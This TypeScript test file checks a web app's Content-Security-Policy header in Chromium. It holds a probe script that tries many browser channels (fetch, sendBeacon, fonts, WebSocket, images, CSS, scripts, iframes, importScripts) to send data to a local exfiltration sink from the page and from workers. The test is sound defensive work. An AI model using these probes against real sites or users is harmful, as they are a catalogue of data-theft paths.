// The Content-Security-Policy header, attacked in Debian's Chromium: code running in the app's origin — in the page,
// in a same-origin module worker and in a blob: worker (as snarkjs starts them) — tries every egress it can to an
// exfiltration sink on another loopback port. With the header the sink sees no connection at all; the same probes
// against the same server without the header reach it (so the probes work and the header is what stops them).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type Server } from 'node:http';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Browser } from '@playwright/test';
import { CHROMIUM_ARGS } from '../../playwright.config';
import { serveApp } from './serve';
import { freePort } from './ports';
import { connectSources, contentSecurityPolicy, multiaddrToWebSocket } from './csp';
import type { RuntimeConfig } from '../../src/lib/config';

const config: RuntimeConfig = {
  chain: { rpcUrl: 'http://127.0.0.1:28545', chainId: 31337, name: 'dev', development: true, contracts: {}, deployBlock: 0 },
  relay: {
    multiaddrs: [
      '/ip4/127.0.0.1/tcp/29090/ws/p2p/12D3KooWExample',
      '/dns4/relay.example.org/tcp/443/wss/p2p/12D3KooWOther',
      '/ip4/127.0.0.1/tcp/4001/p2p/12D3KooWTcp',
    ],
    development: true,
  },
  startedAt: new Date(0).toISOString(),
};

// Every egress path we know, each given at most 1.5 s; what it returns does not matter, only what the sink sees.
const PROBES = String.raw`
  async function probes(sink, where) {
    const wsSink = sink.replace('http:', 'ws:');
    const within = (p) => Promise.race([Promise.resolve().then(p).catch(() => null), new Promise((r) => setTimeout(r, 1500))]);
    const tries = [
      () => fetch(sink + '/' + where + '-fetch', { mode: 'no-cors' }),
      () => fetch(sink + '/' + where + '-post', { method: 'POST', mode: 'no-cors', body: 'secret' }),
      () => new FontFace('exfil', 'url(' + sink + '/' + where + '-font)').load(),
      () => import(sink + '/' + where + '-import.js'),
      () => new Promise((r) => { const ws = new WebSocket(wsSink + '/' + where + '-ws'); ws.onopen = ws.onerror = r; }),
      () => new Promise((r) => { const es = new EventSource(sink + '/' + where + '-es'); es.onopen = es.onerror = () => { es.close(); r(); }; }),
      () => { const x = new XMLHttpRequest(); x.open('GET', sink + '/' + where + '-xhr'); x.send(); return new Promise((r) => { x.onloadend = r; }); },
    ];
    if (typeof document !== 'undefined') {
      tries.push(
        () => new Promise((r) => { const i = new Image(); i.onload = i.onerror = r; i.src = sink + '/' + where + '-img'; }),
        () => navigator.sendBeacon(sink + '/' + where + '-beacon', 'secret'),
        () => new Promise((r) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = sink + '/' + where + '-css'; l.onload = l.onerror = r; document.head.append(l); }),
        () => new Promise((r) => { const s = document.createElement('style'); s.textContent = '@font-face { font-family: q; src: url(' + sink + '/' + where + '-cssfont) } body { font-family: q; background: url(' + sink + '/' + where + '-cssbg) }'; document.head.append(s); document.body.textContent = 'x'; setTimeout(r, 500); }),
        () => new Promise((r) => { const s = document.createElement('script'); s.src = sink + '/' + where + '-script.js'; s.onload = s.onerror = r; document.head.append(s); }),
        () => new Promise((r) => { const f = document.createElement('iframe'); f.src = sink + '/' + where + '-frame'; f.onload = r; document.body.append(f); setTimeout(r, 1000); }),
      );
    } else {
      tries.push(() => importScripts(sink + '/' + where + '-importScripts.js'));
    }
    for (const t of tries) await within(t);
    return tries.length;
  }`;

const PAGE = `<!doctype html><html><head><meta charset="utf-8"><title>probe</title></head><body></body></html>`;
const WORKER = `${PROBES}\nself.onmessage = async (e) => self.postMessage(await probes(e.data, 'worker'));`;

let browser: Browser;
let root: string;
let sink: Server;
let sinkUrl = '';
const seen: string[] = [];

beforeAll(async () => {
  browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium', args: CHROMIUM_ARGS });
  root = await mkdtemp(join(tmpdir(), 'tg-csp-'));
  await writeFile(join(root, 'index.html'), PAGE);
  await writeFile(join(root, 'probe-worker.js'), WORKER);
  sink = createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' }).end('ok');
  });
  // Any byte counts, requests or not (a WebSocket upgrade included). A bare TCP connect carrying no byte is not
  // counted: Chromium preconnects to an iframe's origin before frame-src refuses the navigation (a page-only path —
  // granule code runs in a worker, which has no DOM to make frames in).
  sink.on('connection', (socket) => socket.on('data', (d) => seen.push(`bytes ${d.length}`)));
  sink.on('upgrade', (req, socket) => (seen.push(`UPGRADE ${req.url}`), socket.destroy()));
  const port = await freePort();
  await new Promise<void>((r) => sink.listen(port, '127.0.0.1', () => r()));
  sinkUrl = `http://127.0.0.1:${port}`;
});

afterAll(async () => {
  await browser?.close();
  sink?.closeAllConnections();
  sink?.close();
  await rm(root, { recursive: true, force: true });
});

/** Runs every probe from the page, a same-origin module worker and a blob: worker of an app served with or without the header. */
async function attack(csp: boolean): Promise<{ seen: string[]; violations: string[] }> {
  seen.length = 0;
  const app = await serveApp({ root, host: '127.0.0.1', port: await freePort(), config: () => config, csp });
  const page = await browser.newPage();
  const violations: string[] = [];
  page.on('console', (m) => /Content Security Policy/i.test(m.text()) && violations.push(m.text()));
  try {
    await page.goto(`${app.url}/`);
    await page.evaluate(`(async () => { ${PROBES}; return probes(${JSON.stringify(sinkUrl)}, 'page'); })()`);
    await page.evaluate(
      `new Promise((resolve) => { const w = new Worker('/probe-worker.js', { type: 'module' }); w.onmessage = (e) => resolve(e.data); w.onerror = () => resolve('error'); w.postMessage(${JSON.stringify(sinkUrl)}); })`,
    );
    const blobWorker = `${PROBES}\nself.onmessage = async (e) => self.postMessage(await probes(e.data, 'blob-worker'));`;
    await page.evaluate(
      `new Promise((resolve) => { const u = URL.createObjectURL(new Blob([${JSON.stringify(blobWorker)}], { type: 'text/javascript' })); const w = new Worker(u); w.onmessage = (e) => resolve(e.data); w.onerror = () => resolve('error'); w.postMessage(${JSON.stringify(sinkUrl)}); })`,
    );
    await new Promise((r) => setTimeout(r, 500));
    return { seen: [...seen], violations };
  } finally {
    await page.close();
    await app.stop();
  }
}

const bytes = (seen: string[]) => seen.filter((s) => s.startsWith('bytes ')).reduce((n, s) => n + Number(s.slice(6)), 0);

describe('Content-Security-Policy header', () => {
  it('names exactly the chain RPC and the WebSocket relays the configuration needs', () => {
    expect(connectSources(config)).toEqual(['http://127.0.0.1:28545', 'ws://127.0.0.1:29090', 'wss://relay.example.org:443']);
    expect(multiaddrToWebSocket('/ip4/127.0.0.1/tcp/4001/p2p/x')).toBeNull();
    // A community node's block gateway: its origin only.
    expect(connectSources({ ...config, relay: { ...config.relay, gateways: ['http://127.0.0.1:29092', 'https://node.example.org/'] } })).toEqual([
      'http://127.0.0.1:28545',
      'ws://127.0.0.1:29090',
      'wss://relay.example.org:443',
      'http://127.0.0.1:29092',
      'https://node.example.org',
    ]);
    const policy = contentSecurityPolicy(config);
    expect(policy).toContain("connect-src 'self' http://127.0.0.1:28545 ws://127.0.0.1:29090 wss://relay.example.org:443;");
    expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval';");
    expect(policy).not.toContain("'unsafe-eval'");
    expect(policy).not.toMatch(/\*|https:|'unsafe-inline'.*script|script-src[^;]*'unsafe-inline'/);
  });

  it('attack: page, module-worker and blob-worker code cannot reach an exfiltration sink on another port', async () => {
    const blocked = await attack(true);
    expect(blocked.seen).toEqual([]);
    expect(bytes(blocked.seen)).toBe(0);
    expect(blocked.violations.length).toBeGreaterThan(0);
    // The same probes without the header do reach the sink: from the page, the module worker and the blob worker.
    const open = await attack(false);
    expect(bytes(open.seen)).toBeGreaterThan(0);
    for (const where of ['page-fetch', 'page-font', 'page-img', 'page-beacon', 'worker-fetch', 'worker-font', 'blob-worker-fetch', 'UPGRADE /page-ws'])
      expect(open.seen.join('\n')).toContain(where);
  }, 120_000);

  it('every response carries the same header, the granule sandbox worker included (granule code runs in WebAssembly)', async () => {
    const app = await serveApp({ root, host: '127.0.0.1', port: await freePort(), config: () => config });
    try {
      for (const path of ['/', '/probe-worker.js', '/twingrain-config.json', '/missing.js', '/twins', '/assets/sandbox.worker-abc123.js']) {
        const csp = (await fetch(app.url + path)).headers.get('content-security-policy');
        expect([path, csp]).toEqual([path, contentSecurityPolicy(config)]);
      }
    } finally {
      await app.stop();
    }
  });
});
